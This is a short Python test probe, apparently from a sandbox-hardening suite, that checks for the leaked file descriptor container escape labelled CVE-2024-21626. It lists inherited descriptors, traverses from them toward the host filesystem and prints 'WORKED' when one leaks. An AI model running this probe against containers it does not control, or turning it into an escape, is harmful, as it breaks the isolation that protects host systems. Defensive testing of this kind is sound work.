# Attack: goes through descriptors that whoever started it forgot to close, out into the host's folders (CVE-2024-21626).
# Expect: exited 0
# Prints: three streams, at home
# Weak: leak
# Succeeds: WORKED: ['7 /']
import os

opened = []
for descriptor in range(3, 1024):
    try:
        opened.append(f"{descriptor} {os.readlink(f'/proc/self/fd/{descriptor}')}")
        os.stat(f"/proc/self/fd/{descriptor}/../../../..")
    except OSError:
        pass
place = "at home" if os.getcwd() == "/home/coder" == os.path.realpath("/proc/self/cwd") else os.getcwd()
print("three streams" if not opened else f"WORKED: {opened}", place, sep=", ")
